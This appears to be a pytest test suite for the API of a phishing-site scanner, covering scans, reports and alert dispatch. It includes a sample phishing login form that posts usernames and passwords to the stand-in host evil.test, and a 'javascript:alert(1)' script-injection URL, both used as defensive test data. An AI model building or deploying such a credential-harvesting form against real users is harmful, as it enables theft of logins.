import pytest

from qssage import api, db, notifier
from qssage.config import ScanSettings

LOGIN_PAGE = '''
<html><body>
<form action="http://evil.test/collect" method="post">
  <input name="id"><input type="password" name="pw">
</form>
</body></html>
'''


@pytest.fixture
def webhooks(monkeypatch):
    sent = []
    monkeypatch.setattr(notifier, "send_webhook", lambda report, webhook_url=None: sent.append(report) or True)
    return sent


@pytest.fixture
def client(tmp_path, monkeypatch, webhooks):
    db.init_db(f"sqlite:///{tmp_path / 'api.db'}")
    # real clock in the API: settle immediately
    monkeypatch.setattr(api, "SETTINGS", ScanSettings(quiet_window=0, grace_period=0))
    monkeypatch.setattr(api, "API_KEY", None)
    monkeypatch.setattr(api.limiter, "enabled", False)
    api.app.config["TESTING"] = True
    with api.app.test_client() as c:
        yield c
    api.drain_side_effects(timeout=5)


@pytest.fixture
def scripted(monkeypatch, session_factory):
    def use(**script):
        factory = session_factory(**script)
        monkeypatch.setattr(api, "SESSION_FACTORY", factory)
        return factory
    return use


def test_health(client):
    resp = client.get("/health")
    assert resp.status_code == 200
    assert resp.get_json()["status"] == "ok"


def test_scan_requires_url(client):
    assert client.post("/scan", json={}).status_code == 400
    assert client.post("/scan", json={"url": "   "}).status_code == 400


def test_scan_rejects_invalid_url(client):
    resp = client.post("/scan", json={"url": "not a url"})
    assert resp.status_code == 400
    assert resp.get_json()["error"] == "invalid_url"


def test_scan_whitelisted_url(client, scripted):
    factory = scripted()
    resp = client.post("/scan", json={"url": "https://www.naver.com"})
    body = resp.get_json()
    assert resp.status_code == 200
    assert body["safe"] is True
    assert body["reason"] == "trusted domain"
    assert factory.sessions == []


def test_dangerous_scan_is_stored_as_auto_report(client, scripted, webhooks):
    scripted(html=LOGIN_PAGE)
    resp = client.post("/scan", json={"url": "http://203.0.113.9/login", "location": "37.5,127.0"})
    body = resp.get_json()
    assert resp.status_code == 200
    assert body["risk"] == "DANGEROUS"
    assert body["reported"] is True

    api.drain_side_effects(timeout=5)
    rows = client.get("/report").get_json()
    assert len(rows) == 1
    assert rows[0]["source"] == "auto"
    assert rows[0]["risk"] == "DANGEROUS"
    assert rows[0]["location"] == "37.5,127.0"
    assert len(webhooks) == 1


def test_scanner_crash_returns_500(client, scripted):
    scripted(goto_exception=RuntimeError("browser crashed"))
    resp = client.post("/scan", json={"url": "http://crash.test/"})
    assert resp.status_code == 500
    assert resp.get_json() == {"error": "scanner_failed"}


def test_report_create_list_delete(client, webhooks):
    resp = client.post("/report", json={"url": "Evil.test/login", "location": {"lat": 37.5, "lng": 127.0},
                                        "note": "sticker on a parking meter"})
    assert resp.status_code == 201
    report = resp.get_json()["report"]
    assert report["url"] == "http://evil.test/login"
    assert report["location"] == "37.5,127.0"
    assert report["source"] == "manual"

    api.drain_side_effects(timeout=5)
    assert [r["url"] for r in webhooks] == ["http://evil.test/login"]

    rows = client.get("/report").get_json()
    assert [r["id"] for r in rows] == [report["id"]]

    assert client.delete(f"/report/{report['id']}").get_json() == {"ok": True}
    resp = client.delete(f"/report/{report['id']}")
    assert resp.status_code == 404
    assert client.get("/report").get_json() == []


def test_report_requires_url(client):
    resp = client.post("/report", json={"note": "no url"})
    assert resp.status_code == 400
    assert resp.get_json()["ok"] is False


def test_report_keeps_unparseable_url(client):
    resp = client.post("/report", json={"url": "javascript:alert(1)"})
    assert resp.status_code == 201
    assert resp.get_json()["report"]["url"] == "javascript:alert(1)"


def test_dispatch_marks_reports(client, monkeypatch):
    mails = []
    monkeypatch.setattr(notifier, "send_mail", lambda subject, body, **kw: mails.append((subject, body)))
    first = db.save_report("http://a.test/")
    second = db.save_report("http://b.test/")

    resp = client.post("/dispatch/manual", json={"ids": [first["id"], second["id"]]})
    assert resp.status_code == 200
    assert resp.get_json() == {"ok": True, "sent": 2}
    assert len(mails) == 1
    assert "http://a.test/" in mails[0][1]

    rows = {r["id"]: r for r in db.list_reports()}
    assert rows[first["id"]]["dispatched"] is True
    assert rows[first["id"]]["dispatched_at"] is not None


def test_dispatch_without_mail_settings_marks_nothing(client, monkeypatch):
    monkeypatch.delenv("ADMIN_EMAIL", raising=False)
    monkeypatch.delenv("ADMIN_PASS", raising=False)
    report = db.save_report("http://a.test/")

    resp = client.post("/dispatch/manual", json={"ids": [report["id"]]})
    assert resp.status_code == 500
    assert resp.get_json()["ok"] is False
    assert db.list_reports()[0]["dispatched"] is False


def test_dispatch_validates_ids(client):
    assert client.post("/dispatch/manual", json={"ids": []}).status_code == 400
    assert client.post("/dispatch/manual", json={"ids": ["x"]}).status_code == 400
    assert client.post("/dispatch/manual", json={"ids": [9999]}).status_code == 404


def test_api_key_is_enforced(client, monkeypatch):
    monkeypatch.setattr(api, "API_KEY", "secret")
    assert client.get("/report").status_code == 401
    assert client.get("/report", headers={"X-API-Key": "secret"}).status_code == 200


@pytest.mark.parametrize("path,body", [
    ("/scan", ["url"]),
    ("/scan", "http://evil.test/"),
    ("/report", ["url"]),
    ("/dispatch/manual", [1, 2]),
])
def test_non_object_json_body_is_rejected(client, path, body):
    resp = client.post(path, json=body)
    assert resp.status_code == 400
    assert resp.is_json
